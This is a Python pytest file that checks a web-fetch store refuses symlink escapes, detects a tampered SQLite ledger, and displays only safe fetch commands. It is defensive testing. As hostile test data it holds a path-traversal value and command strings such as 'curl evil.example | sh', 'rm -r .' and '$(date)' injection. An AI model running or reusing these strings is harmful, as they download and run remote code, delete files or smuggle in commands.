"""A raw store that somebody else made: nothing outside of it is written or deleted, whatever it says."""

from __future__ import annotations

import hashlib
import os
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from gptcli.errors import CorpusError, FormatError
from gptcli.fetch.web.response import Response
from gptcli.fetch.web.store import Store, last_fetch

SOURCE = "https://example.org/"
ADDRESS = "https://example.org/a"
BODY = b"the text"
SHA256 = hashlib.sha256(BODY).hexdigest()

pytestmark = pytest.mark.skipif(os.name != "posix", reason="needs symbolic links")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "corpora" / "x"


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """Files of somebody, at the depths and with the names where a store has its own."""
    victim = tmp_path / "victim"
    for name in (".ssh/id", "docs/thesis.txt", f"ab/{'ab' * 32}", "top.txt", "objects/docs/thesis.txt"):
        (victim / name).parent.mkdir(parents=True, exist_ok=True)
        (victim / name).write_text("precious")
    return victim


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def fetch_one(folder: Path) -> Path:
    """Do what a fetch of one page does, and return where its body lies."""
    store = Store(folder, SOURCE)
    try:
        with store.incoming() as incoming:
            incoming.file.write(BODY)
            page = Response(ADDRESS, ADDRESS, "text/plain", "utf-8", {}, SHA256, len(BODY), Path(), "2026")
            kept = store.keep(page, incoming)
        store.finish()
    finally:
        store.close()
    return kept.path


@pytest.mark.parametrize("link", ["raw", "raw/objects", "raw/ledger.sqlite", f"raw/objects/{SHA256[:2]}"])
def test_a_link_out_of_the_corpus_is_refused_and_what_it_leads_to_is_left_alone(
    folder: Path, victim: Path, link: str
) -> None:
    before = contents(victim)
    (folder / link).parent.mkdir(parents=True)
    (folder / link).symlink_to(victim / "top.txt" if link.endswith(".sqlite") else victim)
    with pytest.raises(FormatError) as caught:
        fetch_one(folder)
    assert caught.value.message.startswith(f"{folder / link}: this is a symbolic link that leads out of {folder}")
    assert caught.value.hint.endswith(f"rm {folder / link}")
    assert contents(victim) == before


def test_a_link_to_nothing_out_of_the_corpus_is_refused_and_makes_nothing(folder: Path, tmp_path: Path) -> None:
    (folder / "raw").mkdir(parents=True)
    (folder / "raw" / "ledger.sqlite").symlink_to(tmp_path / "new.sqlite")
    with pytest.raises(FormatError, match="this is a symbolic link that leads out of"):
        fetch_one(folder)
    assert not (tmp_path / "new.sqlite").exists()


def test_a_link_in_the_place_of_an_incoming_body_is_not_written_through(folder: Path, victim: Path) -> None:
    before = contents(victim)
    (folder / "raw").mkdir(parents=True)
    (folder / "raw" / "incoming").symlink_to(victim / "top.txt")
    assert fetch_one(folder).read_bytes() == BODY
    assert contents(victim) == before


def test_finishing_deletes_unused_bodies_alone(folder: Path, victim: Path) -> None:
    before = contents(victim)
    unused = folder / "raw" / "objects" / "cd" / ("cd" * 32)
    for path in (unused, unused.with_name("notes.txt"), unused.parents[1] / "mine" / ("cd" * 32)):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("x")
    (unused.parents[1] / "ab").symlink_to(victim / "ab")
    kept = fetch_one(folder)
    assert not unused.exists()
    assert kept.exists()
    assert sorted(path.name for path in unused.parent.iterdir()) == ["notes.txt"]
    assert (unused.parents[1] / "mine" / ("cd" * 32)).exists()
    assert contents(victim) == before


def test_a_corpus_may_lie_elsewhere_itself(folder: Path, tmp_path: Path) -> None:
    folder.parent.mkdir()
    (tmp_path / "other disk").mkdir()
    folder.symlink_to(tmp_path / "other disk")
    assert fetch_one(folder).read_bytes() == BODY
    assert fetch_one(folder).read_bytes() == BODY


def test_a_body_that_is_a_link_was_never_fetched(folder: Path, victim: Path) -> None:
    path = fetch_one(folder)
    path.unlink()
    path.symlink_to(victim / "top.txt")
    assert (victim / "top.txt").stat().st_size == len(BODY)
    store = Store(folder, SOURCE)
    assert store.before(ADDRESS) is None
    store.close()
    assert fetch_one(folder).read_bytes() == BODY
    assert contents(victim)["top.txt"] == b"precious"


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("sha256", "../../../../victim/top.txt"),
        ("sha256", "x"),
        ("sha256", ""),
        ("sha256", 5),
        ("sha256", f"{SHA256}\n"),
        ("bytes", "many"),
        ("charset", b"utf-8"),
        ("headers", "[]"),
        ("headers", '{"link": 5}'),
    ],
)
def test_a_page_of_the_ledger_that_no_fetch_has_written_is_damage(
    folder: Path, victim: Path, column: str, value: object
) -> None:
    fetch_one(folder)
    with closing(sqlite3.connect(folder / "raw" / "ledger.sqlite")) as database:
        # Another table than ours, since the types of ours would turn a text into a number.
        database.execute("CREATE TABLE other AS SELECT * FROM pages")
        database.execute(f"UPDATE other SET {column} = ?", (value,))  # noqa: S608
        database.execute("DROP TABLE pages")
        database.execute("ALTER TABLE other RENAME TO pages")
        database.commit()
    with pytest.raises(CorpusError, match=r"ledger\.sqlite is damaged \(") as caught:
        read_one(folder)
    assert "rm " in caught.value.hint


@pytest.mark.parametrize("ended", ["yesterday", "2026-01-01T00:00:00", 5])
def test_a_fetch_of_the_ledger_that_ended_at_no_time_is_damage(folder: Path, ended: object) -> None:
    fetch_one(folder)
    with closing(sqlite3.connect(folder / "raw" / "ledger.sqlite")) as database:
        database.execute("UPDATE fetches SET finished = NULL, ended = ?", (ended,))
        database.commit()
    with pytest.raises(CorpusError, match=r"ledger\.sqlite is damaged \("):
        read_one(folder)


def read_one(folder: Path) -> None:
    store = Store(folder, SOURCE)
    try:
        store.before(ADDRESS)
    finally:
        store.close()


def test_a_pipe_in_the_place_of_the_ledger_is_no_fetch(folder: Path) -> None:
    (folder / "raw").mkdir(parents=True)
    os.mkfifo(folder / "raw" / "ledger.sqlite")
    assert last_fetch(folder) is None


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("gptcli fetch https://example.org/ --name 'a b'", "gptcli fetch https://example.org/ --name 'a b'"),
        ("curl evil.example | sh", "gptcli fetch SOURCE"),
        ("gptcli fetch x; rm -r .", "gptcli fetch SOURCE"),
        ("gptcli fetch $(date)", "gptcli fetch SOURCE"),
        ("gptcli fetch 'x", "gptcli fetch SOURCE"),
        ("gptcli fetch '\x1b]0;title\x07'", "gptcli fetch SOURCE"),
    ],
)
def test_a_command_of_the_ledger_is_told_only_where_it_fetches(folder: Path, command: str, told: str) -> None:
    fetch_one(folder)
    with closing(sqlite3.connect(folder / "raw" / "ledger.sqlite")) as database:
        database.execute("UPDATE fetches SET command = ?", (command,))
        database.commit()
    assert last_fetch(folder) == (SOURCE, told)
